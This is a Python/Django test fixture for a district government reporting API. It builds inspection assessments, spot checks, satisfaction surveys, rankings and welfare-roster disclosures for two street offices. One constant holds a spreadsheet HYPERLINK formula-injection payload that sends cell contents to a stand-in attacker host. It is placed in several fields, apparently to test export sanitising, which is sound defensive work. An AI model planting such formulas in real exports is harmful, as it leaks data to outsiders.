"""A client for the district API and one set of report data across both street offices."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import date, datetime, timedelta
from decimal import Decimal
from typing import Any
from zoneinfo import ZoneInfo

from django.test import Client
from django.utils import timezone
from django_tenants.utils import tenant_context

from disclosure import services as disclosure_services
from disclosure.choices import ContentType
from disclosure.models import Disclosure
from inspection import services as inspection_services
from inspection.choices import AssessmentStatus, RectificationSource, SpotCheckStatus, SurveyStatus
from inspection.models import (
    Admonishment,
    Assessment,
    AssessmentScore,
    ComplianceSummary,
    Evaluation,
    Rectification,
    SpotCheck,
    SpotCheckDraw,
    Survey,
)
from standards.models import LedgerAnchor
from tests.disclosure.test_engine import draft, published

TZ = ZoneInfo("Asia/Shanghai")
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
RELIEF = {
    "programme": "城市最低生活保障",
    "households": [
        {
            "name": "王建国",
            "id_number": "110101194901011234",
            "age": 76,
            "household_size": 2,
            "hardship": "独居,慢性病",
            "amount": "680",
        },
        {"name": "欧阳小明", "age": 45, "household_size": 4, "hardship": "失业", "amount": "1200"},
    ],
}


def api(key: str | None, **headers: str) -> Client:
    extra: dict[str, Any] = {"HTTP_AUTHORIZATION": f"Bearer {key}"} if key else {}
    extra.update(headers)
    return Client(HTTP_HOST="localhost", **extra)


@dataclass
class Reports:
    """What each resource should and should not show; ids let tests guess across scopes."""

    assessment: Assessment
    assessment_unapproved: Assessment
    spot_check: SpotCheck
    spot_check_open: SpotCheck
    survey: Survey
    survey_open: Survey
    rectification: Rectification
    evaluation: Evaluation
    evaluation_unpublished: Evaluation
    dongfeng_assessment: Assessment
    dongfeng_spot_check: SpotCheck
    dongfeng_survey: Survey
    dongfeng_rectification: Rectification
    dongfeng_evaluation: Evaluation
    roster: Disclosure
    old_roster: Disclosure
    notice: Disclosure
    draft: Disclosure


def _assessment(world, community, template, *, approved: bool) -> Assessment:
    assessment = Assessment.objects.create(
        community=community,
        period="2026年度",
        template=template,
        inspector=world.user("yinzhou_inspector"),
        status=AssessmentStatus.APPROVED if approved else AssessmentStatus.SCORED,
        self_total=Decimal("98.0"),
        inspector_total=Decimal("95.0"),
        approved_at=timezone.now() if approved else None,
    )
    for item in template.items.all():
        AssessmentScore.objects.create(
            assessment=assessment,
            item=item,
            self_score=item.max_score,
            inspector_score=item.max_score,
            note=FORMULA if item.code == "C1" else "",
        )
    return assessment


def _spot_check(world, community, *, completed: bool, findings: str = "") -> SpotCheck:
    draw = SpotCheckDraw.objects.create(
        street_office=community.street_office,
        period=f"2026年11月{community.schema_name}{completed}",
        seed="s",
        sample_size=1,
        population=[community.schema_name],
        drawn=[community.schema_name],
        drawn_by=world.user("yinzhou_inspector"),
    )
    return SpotCheck.objects.create(
        draw=draw,
        community=community,
        status=SpotCheckStatus.COMPLETED if completed else SpotCheckStatus.PLANNED,
        visited_at=datetime(2026, 11, 12, 9, 30, tzinfo=TZ) if completed else None,
        board_current=True if completed else None,
        display_window_kept=False if completed else None,
        opinion_box=True if completed else None,
        findings=findings,
        score=Decimal("66.7") if completed else None,
    )


def _survey(world, community, *, period: str, closed: bool) -> Survey:
    return Survey.objects.create(
        community=community,
        period=period,
        title=f"{community.name}{period}群众满意度测评",
        status=SurveyStatus.CLOSED if closed else SurveyStatus.OPEN,
        created_by=world.user("yinzhou_inspector"),
        votes_cast=120 if closed else 0,
        satisfied=100 if closed else 0,
        basic=6 if closed else 0,
        unsatisfied=14 if closed else 0,
        satisfaction_rate=Decimal("88.33") if closed else None,
        closed_at=timezone.now() if closed else None,
    )


def _rectification(community, survey: Survey) -> Rectification:
    order = Rectification.objects.create(
        community=community,
        source=RectificationSource.SURVEY,
        survey=survey,
        issues="-满意率低于 90%",
        responsible_roles=["secretary", "director"],
        due_date=date(2026, 12, 15),
    )
    Admonishment.objects.create(rectification=order, person_name="李书记", role="党组织书记")
    return order


def _evaluation(community, *, rank: int, published: bool) -> Evaluation:
    return Evaluation.objects.create(
        community=community,
        period="2026",
        assessment_score=Decimal("95.0"),
        spot_check_score=Decimal("66.7"),
        satisfaction_score=Decimal("88.33"),
        compliance_score=Decimal("80.0"),
        composite=Decimal("85.5") - rank,
        rank=rank,
        published_at=timezone.now() if published else None,
    )


def build_reports(world) -> Reports:
    template = inspection_services.template_seed_default()
    year = str(timezone.localdate().year)
    for community in (world.yincheng, world.dongfeng):
        ComplianceSummary.objects.create(
            community=community,
            period_kind="year",
            period=year,
            start=date(int(year), 1, 1),
            end=date(int(year), 12, 31),
            due=10,
            on_time=8,
            late=1,
            overdue=1,
            on_time_rate=Decimal("80.0"),
            computed_on=timezone.localdate(),
        )
    survey = _survey(world, world.yincheng, period="2026年度", closed=True)
    dongfeng_survey = _survey(world, world.dongfeng, period="2026年度", closed=True)
    with tenant_context(world.yincheng):
        old_roster = published(
            world, content_type=ContentType.RELIEF, data=RELIEF, title="2026年6月低保名单公示"
        )
        notice = published(world, title=FORMULA)
        today = timezone.localdate()
        roster = published(
            world,
            content_type=ContentType.RELIEF,
            data=RELIEF,
            title="本月低保名单公示",
            today=today - timedelta(days=20),
            planned=today - timedelta(days=3),
            on=today - timedelta(days=3),
        )
        unpublished = draft(world, title="还在起草的通知")
        disclosure_services.ledger_anchor_record(day=today - timedelta(days=1))
        disclosure_services.ledger_anchor_record(day=today)
    LedgerAnchor.objects.create(community=world.dongfeng, day=today, head_seq=1, head_hash="d" * 64)
    return Reports(
        assessment=_assessment(world, world.yincheng, template, approved=True),
        assessment_unapproved=_assessment(world, world.yinnan, template, approved=False),
        spot_check=_spot_check(world, world.yincheng, completed=True, findings=FORMULA),
        spot_check_open=_spot_check(world, world.yinnan, completed=False),
        survey=survey,
        survey_open=_survey(world, world.yinnan, period="2026年度", closed=False),
        rectification=_rectification(world.yincheng, survey),
        evaluation=_evaluation(world.yincheng, rank=1, published=True),
        evaluation_unpublished=_evaluation(world.yinnan, rank=2, published=False),
        dongfeng_assessment=_assessment(world, world.dongfeng, template, approved=True),
        dongfeng_spot_check=_spot_check(world, world.dongfeng, completed=True),
        dongfeng_survey=dongfeng_survey,
        dongfeng_rectification=_rectification(world.dongfeng, dongfeng_survey),
        dongfeng_evaluation=_evaluation(world.dongfeng, rank=1, published=True),
        roster=roster,
        old_roster=old_roster,
        notice=notice,
        draft=unpublished,
    )
